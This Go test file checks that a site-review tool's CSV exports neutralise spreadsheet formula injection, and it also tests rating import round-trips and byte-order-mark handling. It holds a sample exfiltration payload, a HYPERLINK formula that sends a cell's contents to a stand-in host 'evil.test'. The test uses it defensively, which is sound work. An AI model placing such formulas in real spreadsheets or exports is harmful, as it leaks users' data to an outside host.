package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"sitesift/app/apptest"
	"sitesift/app/communities"
	"sitesift/app/export"
	"sitesift/app/exports"
	"sitesift/app/fault"
	"sitesift/app/ranking"
	"sitesift/app/review"
	"sitesift/sites/store"
)

// hostile is text a spreadsheet would run as a formula.
const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`

// TestCSVWritersNeutralise writes a hostile text through every CSV the
// product writes, in every text column, and checks that no cell of the
// output starts a formula. The lab experiments' files are app/lab's
// TestOutputCSVNeutralises.
func TestCSVWritersNeutralise(t *testing.T) {
	h := func(prefix string) string { return prefix + hostile }
	sel := review.SelectedSeed{SeedURL: h("="), SelectedSite: review.SelectedSite{Selection: review.Selection{
		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t"),
		NominatedBy: h("-"), ApprovedBy: h("+"), RejectedBy: h("="), RejectedReason: h("@")}}}
	for _, tc := range []struct {
		name  string
		write func(io.Writer) error
		want  int // hostile cells written
	}{
		{"ratings", func(w io.Writer) error {
			return review.WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
		}, 3},
		{"ratings table", func(w io.Writer) error {
			return exports.WriteRatingsCSV(w, exports.RatingsTable{Librarians: []string{h("")}, Rows: []exports.RatingsRow{{Site: h("+"), CrawlStatus: h("-"),
				Selection: h("="), Ratings: []int{2}, Mean: 2}}})
		}, 4},
		{"biased rank", func(w io.Writer) error {
			return exports.WriteBiasedRank(w, []ranking.BiasedRankRow{{Site: h("")}}, export.CSV)
		}, 1},
		{"communities", func(w io.Writer) error {
			return exports.WriteCommunities(w, []communities.Community{{Seed: h(""), Site: h("@")}}, export.CSV)
		}, 2},
		{"selection", func(w io.Writer) error {
			return exports.WriteSelection(w, []review.SelectedSeed{sel}, export.CSV)
		}, 9},
		{"agreement", func(w io.Writer) error {
			return exports.WriteAgreement(w, review.Agreement{Rows: []review.AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
		}, 2},
		{"review queue", func(w io.Writer) error {
			return exports.WriteQueue(w, review.ReviewQueue{Rows: []review.QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
		}, 2},
		{"rank", func(w io.Writer) error {
			return exports.WriteRank(w, []ranking.RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, export.CSV, false)
		}, 2},
		{"seeds", func(w io.Writer) error {
			return exports.WriteSeeds(w, []exports.Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
		}, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tc.write(&buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			found := 0
			for _, row := range rows {
				for _, c := range row {
					if c != "" && !strings.HasPrefix(c, "'") && export.Cell(c) != c {
						t.Errorf("cell %q starts a formula", c)
					}
					if strings.HasSuffix(c, hostile) {
						found++
						if !strings.HasPrefix(c, "'") {
							t.Errorf("cell %q not quoted", c)
						}
					}
				}
			}
			if found != tc.want {
				t.Errorf("%d hostile cells, want %d: %q", found, tc.want, rows)
			}
		})
	}
}

// TestRatingsCSVRoundTrip: ratings whose notes and librarian names start
// formulas, exported from one project and imported into another of the same
// sites, come back identical.
func TestRatingsCSVRoundTrip(t *testing.T) {
	ctx := context.Background()
	from, fromProject, _ := apptest.OpenProject(t, apptest.CommunityProject(t))
	to, toProject, _ := apptest.OpenProject(t, apptest.CommunityProject(t))
	for _, r := range []store.Rating{
		{Librarian: "=lib", Site: "h1.test", Rating: 4, Note: "=SUM(A1)"},
		{Librarian: "ana", Site: "h1.test", Rating: 3, Note: "'=already quoted"},
		{Librarian: "ana", Site: "a2.test", Rating: 1, Note: "-1+2"},
		{Librarian: "+plus", Site: "b2.test", Rating: 2, Note: "\ttabbed\nnote"},
		{Librarian: "@at", Site: "a2.test", Rating: 2, Note: "-0.5"},
		{Librarian: "ben", Site: "b2.test", Rating: 3, Note: "''@x"},
	} {
		apptest.AddLibrarians(t, from, r.Librarian)
		if _, err := from.Review.Rate(ctx, r.Librarian, r.Site, r.Rating, r.Note); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := from.Review.ExportRatingsCSV(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `'=lib,h1.test,4,'=SUM(A1)`) {
		t.Errorf("export does not neutralise formulas:\n%s", buf.String())
	}
	if _, err := to.Review.ImportRatingsCSV(ctx, bytes.NewReader(buf.Bytes()), "ratings.csv", true); err != nil {
		t.Fatal(err)
	}
	want, err := fromProject.Store.Ratings(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got, err := toProject.Store.Ratings(ctx)
	if err != nil {
		t.Fatal(err)
	}
	strip := func(rs []store.Rating) []store.Rating {
		out := slices.Clone(rs)
		for i := range out {
			out[i].RatedAt = time.Time{} // when it was rated, not what
		}
		return out
	}
	if !slices.Equal(strip(got), strip(want)) {
		t.Errorf("imported %+v\nwant %+v", got, want)
	}
}

// TestExportBOM: the ratings file and the sites table, meant for a
// spreadsheet, start with a UTF-8 byte-order mark unless asked not to
// (Excel on Windows reads a CSV file without one in the local code page);
// the seed lists have none unless asked; otherwise the bytes are the same.
// A mark asked for with a format other than CSV is a bad request, and the
// ratings file reads back the same with or without its mark.
func TestExportBOM(t *testing.T) {
	ctx := context.Background()
	a, _ := apptest.Open(t, apptest.ReviewProject(t))
	yes, no := true, false
	for _, c := range []struct {
		what, format string
		bom          *bool
		want         bool
	}{
		{exports.ExportRatings, "", nil, true},
		{exports.ExportRatings, "", &no, false},
		{exports.ExportSites, export.CSV, nil, true},
		{exports.ExportSites, export.CSV, &no, false},
		{exports.ExportTopK, export.CSV, nil, false},
		{exports.ExportTopK, export.CSV, &yes, true},
	} {
		var got, plain bytes.Buffer
		if err := a.Exports.Export(ctx, &got, exports.ExportRequest{What: c.what, Format: c.format, BOM: c.bom}); err != nil {
			t.Fatalf("%s: %v", c.what, err)
		}
		if err := a.Exports.Export(ctx, &plain, exports.ExportRequest{What: c.what, Format: c.format, BOM: &no}); err != nil {
			t.Fatalf("%s: %v", c.what, err)
		}
		want := plain.String()
		if c.want {
			want = export.BOM + want
		}
		if got.String() != want || plain.Len() == 0 {
			asked := "default"
			if c.bom != nil {
				asked = strconv.FormatBool(*c.bom)
			}
			t.Errorf("%s (bom %s): starts %q, want %q", c.what, asked, got.String()[:min(got.Len(), 12)], want[:min(len(want), 12)])
		}
	}
	_, err := a.Exports.ExportCounted(ctx, io.Discard, exports.ExportRequest{What: exports.ExportSites, Format: export.JSON, BOM: &yes})
	if fault.KindOf(err) != fault.KindInvalid || !strings.Contains(err.Error(), "byte-order mark") {
		t.Errorf("a byte-order mark in JSON: %v", err)
	}
	var with, without bytes.Buffer
	if err := a.Exports.Export(ctx, &with, exports.ExportRequest{What: exports.ExportRatings}); err != nil {
		t.Fatal(err)
	}
	if err := a.Exports.Export(ctx, &without, exports.ExportRequest{What: exports.ExportRatings, BOM: &no}); err != nil {
		t.Fatal(err)
	}
	lw, err := review.ParseRatings(&with, "with.csv")
	if err != nil {
		t.Fatal(err)
	}
	lwo, err := review.ParseRatings(&without, "without.csv")
	if err != nil {
		t.Fatal(err)
	}
	if len(lw) == 0 || !slices.Equal(lw, lwo) {
		t.Errorf("read back with its mark %+v, without %+v", lw, lwo)
	}
}
